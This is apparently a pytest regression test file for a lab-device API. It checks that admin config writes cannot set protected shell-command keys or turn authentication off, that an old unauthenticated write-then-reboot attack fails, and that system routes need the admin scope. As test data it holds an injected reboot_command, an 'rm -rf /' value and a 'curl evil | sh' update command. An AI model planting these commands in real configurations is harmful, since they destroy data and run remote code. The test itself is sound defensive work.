"""Shell commands are not configuration: the two-call command execution path of a config write plus a reboot
fails at every step, and the system routes need the admin scope."""

from __future__ import annotations

import pytest

from reactorkit.core.auth.client import bearer
from reactorkit.core.config_guard import protected_changes

ATTACK = "[system]\ncommands_enabled = 1\nreboot_command = touch {dot_pioreactor}/pwned\n"


def test_the_guard_names_added_changed_and_removed_protected_keys():
    old = "[system]\nreboot_command = sudo reboot\n[api]\nauth = on\n[stirring.config]\nx = 1\n"
    assert protected_changes(old, old + "\n[ui]\nport = 1\n") == []
    assert protected_changes(old, old.replace("sudo reboot", "rm -rf /")) == ["[system] reboot_command"]
    assert protected_changes(old, old.replace("auth = on", "")) == ["[api] auth"]
    assert protected_changes(old, old + "[system]\ncommands_enabled = 1\n") == ["[system] commands_enabled"]


@pytest.mark.parametrize("path", ["/api/config/units/leader/specific", "/unit_api/config/specific"])
def test_commands_cannot_be_written_through_the_api_even_by_an_admin(secured_leader, secured_root, tokens, path):
    before = (secured_root / "unit_config.ini").read_text() if (secured_root / "unit_config.ini").exists() else None
    response = secured_leader.simulate_patch(path, json={"code": ATTACK}, headers=bearer(tokens.admin))
    assert response.status_code == 403, response.text
    assert response.json["error"] == "Protected setting."
    assert "[system] commands_enabled" in response.json["cause"] and "[system] reboot_command" in response.json["cause"]
    after = (secured_root / "unit_config.ini").read_text() if (secured_root / "unit_config.ini").exists() else None
    assert after == before


def test_the_shared_config_cannot_carry_commands_or_switch_auth_off(secured_leader, tokens):
    current = "[cluster.topology]\nleader_hostname = leader\nleader_address = 127.0.0.1\n\n[mqtt]\nbroker_port = 1883\n"
    saved = secured_leader.simulate_patch("/api/config/shared", json={"code": current}, headers=bearer(tokens.admin))
    assert saved.status_code == 200, saved.text
    for extra in (ATTACK, "[api]\nauth = off\n", "[system]\nupdate_command = curl evil | sh\n"):
        response = secured_leader.simulate_patch("/api/config/shared", json={"code": current + "\n" + extra},
                                                 headers=bearer(tokens.admin))
        assert response.status_code == 403, (extra, response.text)
    unrelated = secured_leader.simulate_patch("/api/config/shared", headers=bearer(tokens.admin),
                                              json={"code": current + "\n[stirring.config]\ninitial_target_rpm = 400\n"})
    assert unrelated.status_code == 200, unrelated.text


def test_the_two_unauthenticated_calls_of_the_old_attack_are_refused(secured_leader, secured_root):
    write = secured_leader.simulate_patch("/api/config/units/leader/specific", json={"code": ATTACK})
    reboot = secured_leader.simulate_post("/api/units/leader/system/reboot")
    assert (write.status_code, reboot.status_code) == (401, 401)
    assert not (secured_root / "pwned").exists()


def test_system_routes_need_admin(secured_leader, secured_worker, tokens):
    for client, path in ((secured_leader, "/api/units/leader/system/reboot"), (secured_worker, "/unit_api/system/reboot"),
                         (secured_worker, "/unit_api/system/shutdown"), (secured_worker, "/unit_api/system/update"),
                         (secured_leader, "/api/units/worker1/plugins/install")):
        response = client.simulate_post(path, json={}, headers=bearer(tokens.control))
        assert response.status_code == 403 and "'admin'" in response.json["cause"], path
